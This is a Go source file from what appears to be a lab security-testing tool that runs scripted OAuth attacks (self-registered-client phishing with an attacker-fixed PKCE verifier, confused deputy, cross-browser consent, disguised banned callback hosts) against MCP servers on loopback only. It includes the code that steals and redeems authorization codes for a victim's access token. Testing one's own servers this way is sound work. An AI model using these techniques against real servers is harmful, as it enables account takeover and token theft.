package attack

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"github.com/kidoban/kidoban"
	"github.com/kidoban/kidoban/lab"
	"github.com/kidoban/kidoban/outbound"
)

// Target is what an attack runs against, on loopback.
type Target struct {
	MCPURL   string      // the MCP server
	Issuer   string      // its authorization server
	Victim   lab.Account // somebody who uses it
	Attacker lab.Account // another account there, for attacks that need one
	// ThirdParty is the origin of the service behind, where Victim and Attacker have
	// the accounts VictimThere and AttackerThere; "" without one.
	ThirdParty                 string
	VictimThere, AttackerThere lab.Account
	// Ban is the operator's part: nothing may go to this host any more.
	Ban func(ctx context.Context, host string) error

	Screenshots string // directory; "" takes none
	Prefix      string // of the screenshots' names
	Language    string // of the browsers; "" is English
	Chromium    string // path of the program; "" finds one
}

func (t Target) lang() string {
	if t.Language == "" {
		return "en"
	}
	return t.Language
}

// Result is how an attack ended.
type Result struct {
	Attack      string   `json:"attack"`
	Succeeded   bool     `json:"succeeded"`
	Loot        string   `json:"loot,omitempty"` // what the attacker got hold of
	End         string   `json:"end"`            // where the way ended, in one sentence
	Page        string   `json:"page,omitempty"` // title of the last page the victim saw
	Saw         []string `json:"saw,omitempty"`  // what pages the victim went through
	Screenshots []string `json:"screenshots,omitempty"`
}

// Attack is one script.
type Attack struct {
	Name  string
	Title string
	Flaws []string // switches of a lab in which it succeeds
	// ThirdParty tells that it needs a third party that remembers its consent.
	ThirdParty bool
	run        func(*raid) error
}

// Attacks lists the scripts in the order in which they are best told.
func Attacks() []Attack {
	return []Attack{
		{"phishing", "OAuth phishing: a client that registered itself, a link, a code challenge of the attacker's own", []string{"F1-a", "F6-B", "F6-C", "F6-F"}, false, (*raid).phishing},
		{"confused-deputy", "Confused deputy: the third party remembers its consent, so a new client gets its code without a page", []string{"F1-a", "E01-b"}, true, (*raid).confusedDeputy},
		{"other-browser", "Consent in the attacker's browser, callback in the victim's", []string{"F1-a", "E02-b"}, true, (*raid).otherBrowser},
		{"banned-host", "A banned callback host comes back in twelve disguises", []string{"F1-a", "F6-B"}, false, (*raid).bannedHost},
	}
}

// ByName finds an attack.
func ByName(name string) (Attack, error) {
	var names []string
	for _, a := range Attacks() {
		if a.Name == name {
			return a, nil
		}
		names = append(names, a.Name)
	}
	return Attack{}, kidoban.Errorf(kidoban.KindUsage, "there is no attack %.40q; there are %s", name, strings.Join(names, ", "))
}

// Run runs the script. An error says that it could not be run; a server that
// withstands is a result.
func (a Attack) Run(ctx context.Context, t Target) (Result, error) {
	for _, raw := range []string{t.MCPURL, t.Issuer} {
		if err := (outbound.Guard{Lab: true}).CheckURL(raw); err != nil || !loopback(raw) {
			return Result{}, kidoban.Errorf(kidoban.KindRefused, "attacks are for servers of your own on loopback, and %.200s is none", raw)
		}
	}
	evil, err := openSite("Thank you!", "Your calendar is connected. You can close this window.", true)
	if err != nil {
		return Result{}, err
	}
	defer evil.close()
	own, err := openSite("Connected", "Desk assistant is connected. You can close this window.", false)
	if err != nil {
		return Result{}, err
	}
	defer own.close()
	r := &raid{ctx: ctx, t: t, evil: evil, own: own, res: Result{Attack: a.Name}, out: outbound.New(outbound.Options{Lab: true})}
	defer r.out.Close()
	if r.victim, err = r.person(t.Victim, t.VictimThere); err != nil {
		return Result{}, err
	}
	defer r.victim.close()
	if err := a.run(r); err != nil {
		return Result{}, err
	}
	r.res.Saw = r.victim.seen
	return r.res, nil
}

func loopback(raw string) bool {
	u, err := url.Parse(raw)
	return err == nil && (u.Hostname() == "127.0.0.1" || u.Hostname() == "::1" || u.Hostname() == "localhost")
}

// raid is one run.
type raid struct {
	ctx    context.Context
	t      Target
	evil   *site // the attacker's
	own    *site // the callback of a program that the victim really uses
	victim *person
	out    *outbound.Client
	res    Result
}

// person opens a browser for somebody.
func (r *raid) person(here, there lab.Account) (*person, error) {
	p := &person{account: here}
	if r.t.ThirdParty != "" {
		p.third = &there
		if u, err := url.Parse(r.t.ThirdParty); err == nil {
			p.thirdAt = u.Host
		}
	}
	var err error
	p.tab, p.close, err = openBrowser(r.ctx, r.t, r.evil)
	return p, err
}

// The attacker fixes verifier and challenge: PKCE proves that who began is who
// ends, and both are the attacker.
const fixedVerifier = "attackers-own-verifier-attackers-own-verifier-x"

func fixedChallenge() string {
	sum := sha256.Sum256([]byte(fixedVerifier))
	return base64.RawURLEncoding.EncodeToString(sum[:])
}

// register registers a client; id is "" when the server refused.
func (r *raid) register(name, redirect string) (id, refusal string, err error) {
	body, err := json.Marshal(map[string]any{"client_name": name, "redirect_uris": []string{redirect}, "token_endpoint_auth_method": "none",
		"grant_types": []string{"authorization_code", "refresh_token"}, "response_types": []string{"code"}})
	if err != nil {
		return "", "", kidoban.Wrap(kidoban.KindInternal, err, "the registration cannot be written")
	}
	x, err := r.out.Do(r.ctx, outbound.Req{Method: http.MethodPost, URL: r.t.Issuer + "/register", Header: kidoban.Fields{{Name: "Content-Type", Value: "application/json"}}, Body: body})
	if err != nil {
		return "", "", err
	}
	var got struct {
		ID    string `json:"client_id"`
		Error string `json:"error"`
		Text  string `json:"error_description"`
	}
	_ = json.Unmarshal(x.Response.Body, &got) // what is not JSON has no id
	if x.Response.Status == http.StatusTooManyRequests {
		return "", "", kidoban.Errorf(kidoban.KindLimit, "the server's limit on registrations was reached: wait, or raise registration_per_ip for this test")
	}
	if got.ID == "" {
		return "", fmt.Sprintf("%d %s: %s", x.Response.Status, got.Error, got.Text), nil
	}
	return got.ID, "", nil
}

// link is the link that begins an authorization.
func (r *raid) link(client, redirect string) string {
	return r.t.Issuer + "/authorize?" + url.Values{"response_type": {"code"}, "client_id": {client}, "redirect_uri": {redirect}, "state": {"st-4711-attack"},
		"code_challenge": {fixedChallenge()}, "code_challenge_method": {"S256"}, "resource": {r.t.MCPURL}}.Encode()
}

// loot redeems a code that came to the attacker and tries the access; it says
// what it is good for, "" when nothing.
func (r *raid) loot(client, redirect, code string) (string, error) {
	form := url.Values{"grant_type": {"authorization_code"}, "client_id": {client}, "redirect_uri": {redirect}, "code": {code}, "code_verifier": {fixedVerifier}, "resource": {r.t.MCPURL}}
	x, err := r.out.Do(r.ctx, outbound.Req{Method: http.MethodPost, URL: r.t.Issuer + "/token", Header: kidoban.Fields{{Name: "Content-Type", Value: "application/x-www-form-urlencoded"}}, Body: []byte(form.Encode()), Credential: true})
	if err != nil {
		return "", err
	}
	var tok struct {
		Access string `json:"access_token"`
		Scope  string `json:"scope"`
	}
	_ = json.Unmarshal(x.Response.Body, &tok) // no token is an answer too
	if tok.Access == "" {
		return "", nil
	}
	hello := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"attack","version":"1"}}}`
	x, err = r.out.Do(r.ctx, outbound.Req{Method: http.MethodPost, URL: r.t.MCPURL, Body: []byte(hello), Credential: true,
		Header: kidoban.Fields{{Name: "Content-Type", Value: "application/json"}, {Name: "Accept", Value: "application/json, text/event-stream"}, {Name: "Authorization", Value: "Bearer " + tok.Access}}})
	if err != nil || x.Response.Status != http.StatusOK {
		return "", err
	}
	return "an access token of the victim's (" + tok.Scope + ") that opens the MCP server", nil
}

// verdict ends the run: what came to the attacker, and where the victim stands.
func (r *raid) verdict(client, redirect string, at page) error {
	r.res.Page = at.Title
	for _, q := range r.evil.codes() {
		loot, err := r.loot(client, redirect, q.Get("code"))
		if err != nil {
			return err
		}
		if loot != "" {
			r.res.Succeeded, r.res.Loot, r.res.End = true, loot, "The code arrived at the attacker's."
		}
	}
	if r.res.End == "" {
		r.res.End = "The victim stands before the page “" + at.Title + "”; nothing arrived at the attacker's."
	}
	return r.photo("")
}

func (r *raid) photo(more string) error {
	file, err := r.victim.shoot(r.t.Screenshots, r.t.Prefix+r.res.Attack+more)
	if file != "" {
		r.res.Screenshots = append(r.res.Screenshots, file)
	}
	return err
}
